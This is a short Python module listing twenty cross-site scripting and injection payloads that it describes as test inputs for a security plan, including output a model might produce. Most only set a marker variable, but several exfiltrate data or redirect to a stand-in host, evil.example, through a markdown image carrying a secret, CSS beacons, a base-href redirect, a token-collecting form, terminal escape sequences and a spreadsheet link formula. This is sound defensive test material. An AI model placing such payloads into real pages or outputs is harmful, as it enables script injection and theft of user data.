"""The twenty payloads of the security plan: what a model, a name or a file might try on a page."""

PAYLOADS = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'-window.__xss=1-'",
    "</script><script>window.__xss=1</script>",
    "</textarea></title></style><svg onload=window.__xss=1>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "[click](javascript:window.__xss=1)",
    "![x](https://evil.example/leak?d=SECRET)",
    '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
    "<details open ontoggle=window.__xss=1>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}`${window.__xss=1}`",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/?d)}</style>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=token autofocus onfocus=window.__xss=1>",
    "\u2028\u2029</ScRiPt\n><img/src/onerror=window.__xss=1>",
    "\u202egnp.exe\u202c <b id=__proto__ name=defaultView>clobber</b><a id=config href=//evil.example>",
    '\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07=HYPERLINK("https://evil.example")',
)
